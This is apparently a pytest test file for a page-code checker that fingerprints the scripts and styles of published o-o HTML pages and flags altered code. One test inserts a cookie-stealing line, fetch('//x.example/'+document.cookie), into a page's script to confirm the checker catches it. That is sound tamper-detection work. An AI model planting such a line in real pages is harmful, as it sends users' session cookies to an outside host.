"""The page code of the published jahala/o-o versions is known to ``oo check`` (issue 28, item 13).

Each version's pages were rebuilt from the public repository (``tools.page_fingerprints
--published COMMIT``, see docs/security.md); only their regions' fingerprints are kept here
(tests/fixtures/published_page_code.json), never o-o's code. With ``OO_NB_PUBLISHED_PAGES`` set to
a folder of rebuilt pages (``COMMIT/NAME.o-o.html``) the pages themselves are checked too."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest

from oo_nb.edit.sync import migrate_early, sync_document
from oo_nb.format.document import Document
from oo_nb.format.known_page_code import KNOWN_PAGE_CODE
from oo_nb.format.page_code import code_regions, page_code_findings, template_fingerprints
from tests.conftest import CORPUS

RECORD_FILE = CORPUS.parent / "published_page_code.json"
RECORD: dict[str, dict[str, dict[str, list[str]]]] = json.loads(RECORD_FILE.read_text("utf-8"))
# The versions rebuilt so far (0a22a1e's and 6b73ca2's sections were fingerprinted before the record)
VERSIONS = (
    "01e81cc",
    "0baa586",
    "14eaa8a",
    "289799e",
    "5350e9b",
    "6b73ca2",
    "93f55ad",
    "c4a8ddf",
    "e89e11c",
)
REBUILT = Path(os.environ.get("OO_NB_PUBLISHED_PAGES", "/nonexistent"))
PAGES = sorted(REBUILT.glob("*/*.o-o.html")) if REBUILT.is_dir() else []


def test_every_published_version_is_recorded() -> None:
    assert set(VERSIONS) <= set(RECORD)
    assert all(RECORD[commit] for commit in VERSIONS)


@pytest.mark.parametrize("commit", sorted(RECORD))
def test_every_region_of_a_published_page_is_known(commit: str) -> None:
    known = KNOWN_PAGE_CODE | template_fingerprints()
    unknown = {
        f"{name}: {kind}"
        for name, kinds in RECORD[commit].items()
        for kind, digests in kinds.items()
        if set(digests) - known
    }
    assert unknown == set()


@pytest.mark.parametrize(
    ("extract", "commit", "page"),
    [
        ("ai-model-landscape.o-o.html", "01e81cc", "ai-model-landscape.o-o.html"),
        ("yc-w26-batch.o-o.html", "01e81cc", "yc-w26-batch.o-o.html"),
        ("index.o-o.html", "01e81cc", "index.o-o.html"),
        ("anthropic-leadership.o-o.html", "01e81cc", "anthropic-leadership.o-o.html"),
    ],
)
def test_the_corpus_extracts_carry_a_published_version(
    extract: str, commit: str, page: str
) -> None:
    """The corpus keeps each original's markup and header (its code is stand-ins): those are the
    published page's, so the version the extract was taken from is the one rebuilt."""
    regions = {r.kind: r.fingerprint for r in code_regions(Document.read(CORPUS / extract))}
    published = RECORD[commit][page]
    assert regions["page markup"] in published["page markup"]
    assert regions["shell header"] in published["shell header"]


def _as_the_user_has_it(path: Path) -> list[tuple[str, Document]]:
    doc = Document.read(path)
    if doc.layout == "early":
        return [("original", doc), ("migrated", migrate_early(doc))]
    return [("original", doc), ("synced", sync_document(doc, ("css", "js", "shell"), None)[0])]


@pytest.mark.skipif(not PAGES, reason="set OO_NB_PUBLISHED_PAGES to a folder of rebuilt pages")
def _page_id(page: object) -> str:
    """A rebuilt page's test id (pytest 8.0 asks for one even when the list is empty)."""
    return f"{page.parent.name}/{page.name}" if isinstance(page, Path) else str(page)


@pytest.mark.parametrize("page", PAGES, ids=_page_id)
def test_a_rebuilt_published_page_is_known_and_recorded(page: Path) -> None:
    for state, doc in _as_the_user_has_it(page):
        assert page_code_findings(doc) == [], state
    kinds = RECORD[page.parent.name][page.name]
    for region in code_regions(Document.read(page)):
        assert region.fingerprint in kinds[region.kind], region.kind


@pytest.mark.skipif(not PAGES, reason="set OO_NB_PUBLISHED_PAGES to a folder of rebuilt pages")
@pytest.mark.parametrize("page", PAGES, ids=_page_id)
def test_a_changed_script_in_a_published_page_is_flagged(page: Path) -> None:
    for state, doc in _as_the_user_has_it(page):
        # a line added inside the page's own first script (o-o's binder, or ours once synced)
        at = doc.text.find("<script>\n") + len("<script>\n")
        assert at > len("<script>\n"), state
        changed = Document(
            doc.text[:at] + "fetch('//x.example/'+document.cookie);\n" + doc.text[at:]
        )
        assert [f[0] for f in page_code_findings(changed)] in (["warning"], ["info"]), state


def test_published_notes_the_commit_and_records_the_regions(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """``tools.page_fingerprints --published COMMIT PAGE``: a region not known before gets a note
    naming the commit and the page, and the page's regions are recorded under the commit."""
    import shutil

    import tools.page_fingerprints as tool

    target, record = tmp_path / "known_page_code.py", tmp_path / "published.json"
    shutil.copy(tool.TARGET, target)
    monkeypatch.setattr(tool, "TARGET", target)
    monkeypatch.setattr(tool, "ROOT", tmp_path)
    monkeypatch.setattr(tool, "PUBLISHED", record)
    text = (CORPUS / "index.o-o.html").read_text("utf-8")
    page = tmp_path / "index.o-o.html"
    page.write_text(text.replace("<style>", "<style>\n.only-here { color: red; }", 1), "utf-8")
    assert tool.main(["--published", "abc1234", str(page)]) == 0
    stylesheet = next(r for r in code_regions(Document.read(page)) if r.kind == "stylesheet")
    assert f'"{stylesheet.fingerprint}",  # stylesheet of jahala/o-o index.o-o.html at abc1234' in (
        target.read_text("utf-8")
    )
    recorded = json.loads(record.read_text("utf-8"))["abc1234"]["index.o-o.html"]
    assert stylesheet.fingerprint in recorded["stylesheet"]
